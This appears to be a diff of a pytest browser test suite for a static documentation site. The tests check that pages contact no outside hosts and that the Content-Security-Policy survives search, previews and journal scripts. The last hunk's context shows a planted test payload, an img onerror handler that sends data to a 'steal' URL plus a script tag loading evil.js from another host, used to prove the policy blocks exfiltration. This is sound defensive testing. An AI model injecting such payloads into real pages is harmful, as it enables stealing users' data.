@@ -3,11 +3,12 @@ Content-Security-Policy of every page holds while search, previews, the lens
 and the journal run; a payload planted in a page cannot send the journal away.
 
 The site promises no third-party requests (no web fonts, no analytics, no
-CDN). Every page is loaded, a preview is opened where the page has one, and
-a search is run to its results (so Material's search worker has loaded its
-index and rendered them). Every request of the page and of its workers is
-recorded, whether served from the network or from the browser's cache
-(Chromium reports cached loads as requests too).
+CDN). Every page is loaded, switched between colour schemes, a preview is
+opened where the page has one, and a search is run to its results (so
+Material's search worker has loaded its index and rendered them): the visit
+in ``tour.py``, shared with the accessibility test. Every request of the page
+and of its workers is recorded, whether served from the network or from the
+browser's cache (Chromium reports cached loads as requests too).
 """
 
 from __future__ import annotations
@@ -19,65 +20,39 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from tests.browser.pages import DESKTOP, page_paths, watch_policy
+from tests.browser.pages import DESKTOP, watch_policy
 
 LOCAL_SCHEMES = {"data", "blob", "about"}
-SEARCH_WORD = "resonance"  # in the text of the site, so search returns results
 
 
-def exercise(page, server: str, path: str) -> None:
-    """Load the page, open a preview if it has a term or citation, and search."""
-    page.goto(server + path)
-    links = page.locator("article :is(a.term, a.citation)")
-    if links.count():
-        links.first.focus()
-        page.locator(".res-preview").wait_for(state="visible")
-        page.keyboard.press("Escape")
-    # Material's worker loads the index, then leaves "Initializing search";
-    # a query typed before that is lost.
-    page.wait_for_function("() => !document.querySelector('.md-search-result__meta')"
-                           ".textContent.includes('Initializing')")
-    search = page.locator("input.md-search__input")
-    search.fill(SEARCH_WORD)
-    search.press("End")  # Material searches on key presses
-    page.locator(".md-search-result__item").first.wait_for(state="visible")
-
-
-def test_no_page_requests_another_host_or_breaks_the_policy(chromium, server, site_dir, subtests):
+def test_no_page_requests_another_host_or_breaks_the_policy(site_tour, server, subtests):
     """Only the local server is contacted; data:, blob: and about: are fine; and
     no page reports a Content-Security-Policy violation (so the policy breaks
     neither search, nor previews, nor the lens and journal scripts).
 
-    At least three requests (page, stylesheet, script) must be seen per page,
-    and the search index must be among them, so the test cannot pass because
-    nothing was recorded."""
+    Every visit must have reached its search results, at least three
+    requests (page, stylesheet, script) must be seen per page, and the search
+    index must be among them, so the test cannot pass because nothing was
+    recorded."""
     local = urlsplit(server).netloc
 
     def foreign(url: str) -> bool:
         parts = urlsplit(url)
         return parts.scheme not in LOCAL_SCHEMES and parts.netloc != local
 
-    context = chromium.new_context(**DESKTOP)
-    context.set_default_timeout(10_000)
-    seen: list[str] = []
-    violations = watch_policy(context)
-    context.on("request", lambda request: seen.append(request.url))  # pages and their workers
-    page = context.new_page()
-    try:
-        for path in page_paths(site_dir):
-            with subtests.test(page=path or "/"):
-                seen.clear()
-                violations.clear()
-                exercise(page, server, path)
-                assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1, path
-                assert not violations, f"/{path} broke the policy:\n  " + "\n  ".join(violations)
-                outside = sorted({url for url in seen if foreign(url)})
-                assert not outside, f"/{path} requested other hosts:\n  " + "\n  ".join(outside)
-                assert len(seen) >= 3, f"/{path}: only {len(seen)} request(s) recorded: {seen}"
-                assert any(url.endswith("/search/search_index.json") for url in seen), (
-                    f"/{path}: the search index was not requested, so search was not exercised: {seen}")
-    finally:
-        context.close()
+    assert len(site_tour) > 20, f"only {len(site_tour)} pages visited"
+    assert sum(visit.previewed for visit in site_tour) > 10, "hardly any page had a preview opened"
+    for visit in site_tour:
+        where, seen = visit.where, visit.requests
+        with subtests.test(page=where):
+            assert visit.policies == 1, f"{where} has {visit.policies} Content-Security-Policy meta tags"
+            assert not visit.violations, f"{where} broke the policy:\n  " + "\n  ".join(visit.violations)
+            outside = sorted({url for url in seen if foreign(url)})
+            assert not outside, f"{where} requested other hosts:\n  " + "\n  ".join(outside)
+            assert visit.searched, f"{where}: the visit stopped while {visit.error}"
+            assert len(seen) >= 3, f"{where}: only {len(seen)} request(s) recorded: {seen}"
+            assert any(url.endswith("/search/search_index.json") for url in seen), (
+                f"{where}: the search index was not requested, so search was not exercised: {seen}")
 
 
 class _Recorder(BaseHTTPRequestHandler):
@@ -121,7 +96,6 @@ def test_a_planted_payload_cannot_send_the_journal(chromium, server, elsewhere):
                f'<img src="data:," onerror="new Image().src = {steal.replace(chr(39), "&#39;")}">'
                f'<script src="{other}/evil.js"></script>')
     context = chromium.new_context(**DESKTOP)
-    context.set_default_timeout(10_000)
     watch_policy(context)
     page = context.new_page()
     try:
